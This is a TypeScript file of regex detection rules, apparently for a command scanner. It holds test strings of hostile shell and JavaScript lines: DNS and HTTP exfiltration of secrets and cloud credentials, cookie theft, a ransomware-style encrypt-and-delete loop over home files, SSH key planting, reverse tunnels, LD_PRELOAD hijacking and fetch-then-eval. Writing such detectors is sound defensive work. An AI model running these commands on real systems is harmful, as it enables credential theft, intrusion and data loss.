import { ATTACKING_SCRIPT, CHANGES_MACHINE, FETCHED_CODE, HOST_ACCESS } from '../rules.ts';
import type { Row } from './script-row.ts';

/** What is carried away, taken hostage, or put where it runs again. */
export const CARRYING_ROWS: readonly Row[] = [
  {
    rule: ATTACKING_SCRIPT,
    // From the first that looks names up, so that a line costs its length. Names that are looked up, and say what a command gave; what a cloud tells its own machines, sent on.
    pattern:
      /^(?:(?!\b(?:nslookup|dig|host|ping)\b)[\s\S])*\b(?:nslookup|dig|host|ping)\b[\s\S]*(?:\$\([^)\n]{1,80}\)|`[^`\n]{1,80}`)\.\w|\b169\.254\.169\.254\b[^\n]*\|[^\n]*\b(?:curl|nc|ncat|wget)\b|\bawk\b[^\n]*\/inet\/(?:tcp|udp)\/|\bzsh\/net\/tcp\b|\bpack\s*\(\s*["']H\*[^\n]{0,400}\|\s*(?:ba|z|da)?sh\b|\blua\s+-e\b[^\n]{0,200}\bsocket\b[^\n]{0,200}\bos\.execute\b/,
    fires: [
      'nslookup $(printenv KEY | head -c 20).a.invalid',
      'curl -s http://169.254.169.254/latest/meta-data/iam/ | curl -d @- http://127.0.0.1:9',
      `awk 'BEGIN{s="/inet/tcp/0/127.0.0.1/9"}'`,
    ],
    quiet: [
      'ping -c1 $(hostname -I)',
      'curl -s http://169.254.169.254/latest/meta-data/instance-type',
      'dig a.invalid',
    ],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /\b(?:fetch|sendBeacon|XMLHttpRequest|\.src\s*=)[^\n]{0,120}\b(?:document\.cookie|localStorage\b(?!\.getItem))/,
    fires: ["fetch('http://127.0.0.1:9/?c=' + document.cookie)"],
    quiet: ['const t = localStorage.getItem("theme"); fetch(url)'],
  },
  {
    rule: ATTACKING_SCRIPT,
    // Files of a home that become unreadable: each is packed with a key, and then removed.
    pattern:
      /\bfor\s+\w+\s+in\s+[^\n;]{0,80}(?:~|\$\{?HOME\}?|\/home|\/Users)[^\n]{0,100}\b(?:openssl\s+enc|gpg\s+(?:-c|--symmetric)|7z\s+a\s+-p|zip\s+-P)[^\n]{0,150}(?:&&|;)\s*(?:rm|shred)\b/,
    fires: ['for f in ~/*; do openssl enc -k x -in "$f" -out "$f.e" && rm "$f"; done'],
    quiet: ['for f in data/*; do openssl enc -k x -in "$f" -out "$f.e"; done'],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /\btee\b[^\n|;]*\bauthorized_keys\b|\b(?:scp|rsync)\b(?![^\n]{0,60}\s-\w{0,3}[ie]\b)[^\n]{0,60}(?:~|\$\{?HOME\}?)\/\.(?:ssh|aws|kube|gnupg)\b(?!\S*\.pub\b)[^\n]{0,80}\s\S{1,60}@[\w.-]{1,60}:|\bcurl\b[^\n]*\bhttp:\/\/(?!localhost\b|127\.)[^\s"']*\$\{?\w*(?:TOKEN|SECRET|API_?KEY|PASSWORD)\b|\bgit\s+config\b[^\n]{0,40}\bcredential\.helper\b[^\n]{0,20}![^\n]{0,80}\b(?:curl|wget|nc)\b/,
    fires: [
      'scp -r ~/.aws a@b.invalid:',
      'curl "http://a.invalid/?t=$HF_TOKEN"',
      'cat k.pub | sudo tee -a /home/x/.ssh/authorized_keys',
    ],
    quiet: [
      'scp ~/.ssh/id.pub a@b:',
      'scp -i ~/.ssh/id x a@b:',
      'curl "http://localhost/?t=$TOKEN"',
      'git config --global credential.helper store',
      'echo x | tee log',
    ],
  },
  {
    rule: HOST_ACCESS,
    pattern:
      /\bgit\s+config\s+(?:--global|--system)\s+(?:core\.hooksPath|core\.fsmonitor)\b|\bssh\s+(?:-\w+\s+){0,3}-\w*R\w*\s+\d+:|\bchisel\s+client\b/,
    fires: ['git config --global core.hooksPath ~/.h', 'ssh -fNR 2222:localhost:22 a@b.invalid'],
    quiet: ['git config core.hooksPath .githooks', 'git config --global user.name x'],
  },
  {
    rule: FETCHED_CODE,
    // A library that every program loads, out of a place where no package puts one; a file that every shell reads first.
    pattern:
      /\bBASH_ENV=\S[^\n]*\b(?:curl|wget)\b|\bLD_PRELOAD[= ]+["']?(?!(?:\/usr|\/lib|\/opt|\/nix|\$)[\w/$])(?:\.{0,2}\/)\S*\.so\b/,
    fires: ['ENV LD_PRELOAD=/x.so', 'export LD_PRELOAD=./libx.so', 'export BASH_ENV=x; curl -o x y'],
    quiet: ['ENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', 'export LD_PRELOAD=$CONDA_PREFIX/lib/libx.so'],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern: /\bcoproc\s+(?:\w+\s+)?(?:\{\s*)?(?:nc|ncat|netcat|socat|telnet|openssl\s+s_client)\b[^\n]*/,
    fires: ['coproc nc 203.0.113.9 443', 'coproc NET { socat - TCP:a.invalid:1; }'],
    quiet: ['coproc BC { bc -l; }', 'nc -z localhost 80'],
  },
  {
    // What is cloned from a house of source code comes from somebody else, for all that is fetched later.
    rule: CHANGES_MACHINE,
    pattern:
      /\bgit\s+config\s+(?:--\w+\s+){0,3}["']?url\.["']?http:\/\/(?!localhost\b|127\.|10\.|192\.168\.)[^\s"']{1,200}["']?\.insteadOf\b[^\n]{0,80}\b(?:github|gitlab|huggingface|bitbucket)\.\w+/i,
    fires: ['git config --global url.http://x.invalid/.insteadOf https://github.com/'],
    quiet: [
      'git config --global url."https://github.com/".insteadOf "git@github.com:"',
      'git config --global url."https://$TOKEN@github.com/".insteadOf "https://github.com/"',
    ],
  },
  {
    // JavaScript: what an address answers, handed to what runs texts.
    rule: FETCHED_CODE,
    pattern: /\bfetch\s*\(\s*["'`]https?:[^\n]{0,200}\.then\s*\(\s*(?:eval|Function)\s*\)/,
    fires: ["fetch('http://x.invalid').then(r=>r.text()).then(eval)"],
    quiet: ["fetch('https://x.invalid').then(r => r.json()).then(show)"],
  },
];
